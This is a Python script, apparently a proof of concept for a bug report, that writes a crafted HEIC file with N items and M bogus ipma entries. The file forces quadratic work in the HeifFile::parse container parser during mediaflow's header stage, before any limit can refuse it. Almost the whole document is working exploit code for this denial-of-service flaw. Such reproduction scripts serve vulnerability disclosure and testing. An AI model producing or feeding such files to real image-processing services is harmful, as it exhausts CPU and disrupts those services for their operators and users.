#!/usr/bin/env python3
"""heifer-isobmff HeifFile::parse (file.rs:112-127) matches every `infe` item against the whole
`ipma` list and the whole `iloc` list with a linear `find`: O(items x associations). This writes
a HEIC (ftyp heic) whose meta has N items (infe v3) and M ipma entries for an item id that does not
exist, so every item scans all M entries. Nothing is decoded: the cost is in the container parse,
which mediaflow runs in the header stage (heic::header -> item_facts -> HeifFile::parse), in
estimate_memory, and twice more in decode -- before any limit can refuse the file.

    python3 make_heif_quadratic.py N M out.heic
"""
import struct, sys


def box(t, p): return struct.pack(">I4s", 8 + len(p), t) + p
def fullbox(t, v, f, p): return box(t, struct.pack(">I", (v << 24) | f) + p)


def build(n, m, brand=b"heic"):
    ftyp = box(b"ftyp", brand + b"\0\0\0\0" + b"mif1" + brand)
    hdlr = fullbox(b"hdlr", 0, 0, b"\0\0\0\0pict" + b"\0" * 12 + b"\0")
    pitm = fullbox(b"pitm", 0, 0, struct.pack(">H", 1))
    infe = b"".join(fullbox(b"infe", 3, 0, struct.pack(">IH", i, 0) + b"hvc1" + b"\0") for i in range(1, n + 1))
    iinf = fullbox(b"iinf", 1, 0, struct.pack(">I", n) + infe)
    ispe = fullbox(b"ispe", 0, 0, struct.pack(">II", 64, 64))
    # ipma v1: u32 item ids; M entries for item 0xFFFFFFFF with no association, then item 1 -> ispe
    ipma_body = struct.pack(">I", m + 1) + struct.pack(">IB", 0xFFFFFFFF, 0) * m + struct.pack(">IBB", 1, 1, 1)
    iprp = box(b"iprp", box(b"ipco", ispe) + fullbox(b"ipma", 1, 0, ipma_body))
    meta = fullbox(b"meta", 0, 0, hdlr + pitm + iinf + iprp)
    return ftyp + meta


if __name__ == "__main__":
    n, m, out = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    d = build(n, m, sys.argv[4].encode() if len(sys.argv) > 4 else b"heic")
    open(out, "wb").write(d)
    print(f"{len(d)} bytes, {n} items x {m} ipma entries = {n*m:.3g} comparisons per parse")
